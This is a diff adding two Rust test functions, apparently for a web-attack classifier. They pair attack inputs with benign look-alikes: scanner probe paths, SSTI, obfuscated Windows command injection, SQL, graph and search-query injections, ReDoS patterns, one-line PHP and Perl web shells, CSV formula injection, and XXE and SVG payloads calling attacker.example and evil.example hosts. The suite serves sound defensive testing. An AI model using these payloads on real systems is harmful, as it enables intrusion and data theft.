@@ -3513,3 +3513,246 @@ fn templates_gadgets_and_cms_markup_next_to_their_look_alikes() {
         &["Northwind", "Northwind product feed"],
     );
 }
+
+/// Set 26 (written before tuning): WAF-evasion tricks and what scanners send first, next to
+/// the filters, policies and lists an admin console sends.
+#[test]
+fn scanner_probes_and_evasions_next_to_admin_values() {
+    const P: FieldKind = FieldKind::Path;
+    const K: FieldKind = FieldKind::QueryName;
+    table(
+        "scanner",
+        P,
+        &[
+            "/actuator/env",
+            "/actuator/heapdump",
+            "/api/actuator/gateway/routes",
+            "/server-status",
+            "/phpinfo.php",
+            "/_ignition/execute-solution",
+            "/_profiler/phpinfo",
+            "/elmah.axd",
+            "/debug/pprof/goroutine",
+            "/jolokia/list",
+        ],
+        &[
+            "/actuator/health",
+            "/actuator/info",
+            "/docs/spring/actuator/environment.html",
+            "/server-status-page/incidents",
+            "/blog/what-is-phpinfo",
+            "/api/v1/debug-sessions",
+        ],
+    );
+    table(
+        "scanner",
+        Q,
+        &[
+            "PHPE9568F34-D428-11d2-A769-00AA001ACF42",
+            "PHPB8B5F2A0-3C92-11d3-A3A9-4C7B08C10000",
+        ],
+        &["PHP-8.3.1", "php5-e9568f34"],
+    );
+    table(
+        "php",
+        Q,
+        &[
+            "index/\\think\\Request/input",
+            "/Index/\\think\\app/invokefunction",
+            "account/mail/#value",
+        ],
+        &["think/app/request", "account/mail/value", "#value"],
+    );
+    table(
+        "php",
+        K,
+        &[
+            "name[#post_render][]",
+            "mail[#lazy_builder][0]",
+            "name[#markup]",
+        ],
+        &["name[post_render]", "tags[]", "filter[#]"],
+    );
+    table(
+        "ssrf",
+        Q,
+        &[
+            "autodiscover/autodiscover.json?@test.com",
+            "/autodiscover/autodiscover.json%3F@evil.example/PowerShell",
+        ],
+        &["https://autodiscover.example.com/autodiscover/autodiscover.json?Email=jane@example.com"],
+    );
+    table(
+        "ssti",
+        Q,
+        &[
+            "%5cu0027%2b%7b233*233%7d%2b%5cu0027",
+            "'%2b#{7*7}%2b'",
+            "\"%2b{@java.lang.Runtime@getRuntime()}%2b\"",
+        ],
+        &["'%2b{name}%2b'", "\"a\" %2b {b: 1} %2b \"c\""],
+    );
+    table(
+        "cmdi",
+        Q,
+        &[
+            "|%COMSPEC:~-7,1%%COMSPEC:~-6,1%%COMSPEC:~-5,1% /c whoami",
+            "&%ProgramData:~0,1%%ProgramData:~9,1%d /c dir",
+        ],
+        &[
+            "set stamp=%date:~10,4%%date:~4,2%%date:~7,2%",
+            "^https://([a-z0-9-]+\\.)?example\\.com(/.*)?$",
+            "^/api/(v1|v2)/users/([0-9]+)?$",
+            "AWS4-HMAC-SHA256 Credential=AKIDEXAMPLE/20240515/us-east-1/iam/aws4_request, SignedHeaders=content-type;host;x-amz-date, Signature=fe5f80f7",
+        ],
+    );
+    table(
+        "cmdi",
+        Q,
+        &["x;id;y", ";host;id", "a;uname;b"],
+        &["(id)?", "content-type;host;x-amz-date", "accept;date;etag"],
+    );
+    table(
+        "sqli",
+        Q,
+        &[
+            "1 AND 5521 BETWEEN 5521 AND 5521",
+            "1' AND 5521 BETWEEN 5521 AND 5521-- x",
+            "1%20%A%N%D%20%S%L%E%E%P(5)",
+            "1'.\",((,).,\"",
+            "shoes)\"'.(,.)',",
+        ],
+        &[
+            "revenue between 5000 and 25000",
+            "Children aged 3 and 5 between 9 and 10am",
+            "Save 20%OFF %Now",
+            "noooo :'((((((((((",
+            "He paused (\"...\").",
+            "a,,,,,,,,,,,,b",
+        ],
+    );
+}
+
+/// Set 27 (written before tuning): injections into graph, search and metrics query
+/// languages and malicious uploads, next to search-box syntax and documents people upload.
+#[test]
+fn query_languages_and_uploads_next_to_searches_and_documents() {
+    const B: FieldKind = FieldKind::BodyValue;
+    table(
+        "nosql",
+        B,
+        &[
+            "x'}) MATCH (u:User {username:'admin'}) SET u.passwordHash='x' RETURN u //",
+            "' OR EXISTS { MATCH (u:User {name:'admin'}) WHERE u.password STARTS WITH 'a' } OR '1'='2",
+            "x' CALL dbms.components() YIELD name RETURN name //",
+            "x');g.V().drop().iterate();//",
+            "x').V().hasLabel('user').valueMap(true)//",
+            "x\" } ; DROP ALL ; INSERT DATA { <urn:a> <urn:b> \"c",
+            "http://example.org/user/1> ?p ?o } UNION { GRAPH ?g { ?s ?p ?o } } #",
+            "x' || true FOR s IN _users RETURN s //",
+            "x\"} or {__name__=~\".+\"} or up{job=\"",
+            "x\")\nfrom(bucket: \"_tasks\") |> range(start: 0) |> filter(fn: (r) => true)",
+            "{!join from=owner_id to=id fromIndex=admin_secrets}*:*",
+            "{!xmlparser v='<!DOCTYPE a SYSTEM \"http://evil.example/\"><a/>'}",
+            "*:*&shards=attacker.example:8983/solr/c1&qt=/select",
+            "x'&$expand=Orders($select=CreditCardNumber)&$top=100000",
+            "FROM .security-7,*,-logs* | KEEP username, password",
+            "source=.kibana,.opendistro_security | fields *",
+            "ctx._source.role = 'admin'; ctx._source.is_superuser = true",
+            "ctx.op = 'delete'",
+            "params['_source']['password']",
+            "Debug.explain(params._source)",
+            "x\" or r.host =~ /.*/ or r.host == \"",
+            "x' or startswith(PasswordHash,'a') eq true or Name eq '",
+            "x\" OR reporter in membersOf(\"jira-administrators\") OR text ~ \"",
+            "*&size=10000&_source_includes=password,api_key",
+        ],
+        &[
+            "match (case-insensitive) on the title",
+            "Type 'delete account' to confirm",
+            "{!tag=color}color:red",
+            "https://search.example.com/select?q=*:*&rows=10&fl=id",
+            "q=shoes&rows=20",
+            "The .security team meets on Fridays",
+            "ctx.value = 3",
+            "_source filtering keeps responses small",
+            "status:open assignee:me label:\"needs triage\"",
+            "(java OR kotlin) AND NOT android",
+            "He said \"match (x)\" and left",
+            "repo:org/name language:go \"func main(\"",
+            "summary ~ \"login\" OR description ~ \"login\" AND status = \"Open\"",
+            "\"exact phrase\" or other words",
+            "M&S shoes",
+        ],
+    );
+    table(
+        "ldap",
+        B,
+        &["admin))\u{0}", "*)(uid=*))\u{0}"],
+        &["admin)", "(see note)\u{0}x"],
+    );
+    table(
+        "dos",
+        B,
+        &["(((a+)+)+)+$", "name:/(\\w+)*@/", "^(.*)*x$", "([a-z]*)+$"],
+        &[
+            "^([a-z0-9-]+\\.)+[a-z]{2,}$",
+            "(a+b)+",
+            "C++ (2 hours)+",
+            "(+49) 30 1234",
+        ],
+    );
+    table(
+        "upload",
+        B,
+        &["X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"],
+        &["Our scanner detects the EICAR test file"],
+    );
+    table(
+        "code",
+        B,
+        &[
+            "#!/usr/bin/perl\nprint \"Content-type: text/plain\\n\\n\";\nprint `$ENV{QUERY_STRING}`;\n",
+            "<?php echo `$_GET['c']`; ?>",
+        ],
+        &["Use `$ENV` in docs", "Prices in `$` and `€`"],
+    );
+    table(
+        "formula",
+        B,
+        &[
+            "name,email,total\n=cmd|' /C calc'!A0,a@example.com,10\n",
+            "Alice\",\"=cmd|' /C calc'!A0\",\"",
+        ],
+        &[
+            "name,total\n=SUM(B2:B9),10\n-15.00,+49 30 1234567\n",
+            "a | b, 'c'",
+        ],
+    );
+    table(
+        "xxe",
+        B,
+        &[
+            "<?xml version=\"1.0\"?><a xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:schemaLocation=\"urn:a http://attacker.example/a.xsd\"/>",
+        ],
+        &[
+            "<?xml version=\"1.0\"?><gpx xmlns=\"http://www.topografix.com/GPX/1/1\" xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:schemaLocation=\"http://www.topografix.com/GPX/1/1 http://www.topografix.com/GPX/1/1/gpx.xsd\"><trk/></gpx>",
+        ],
+    );
+    table(
+        "lfi",
+        B,
+        &["/.git/config", "../.env", "x=.htaccess"],
+        &["**/.git", "**/.env.local"],
+    );
+    table(
+        "xss",
+        B,
+        &[
+            "<svg xmlns=\"http://www.w3.org/2000/svg\"><style>@import url(//evil.example/x.css);</style></svg>",
+        ],
+        &[
+            "<svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 10 10\">\n<title>Progress 72%</title>\n<style>.bar { fill: none; stroke: #2e7d32; }</style><circle class=\"bar\" r=\"4\"/></svg>",
+        ],
+    );
+}
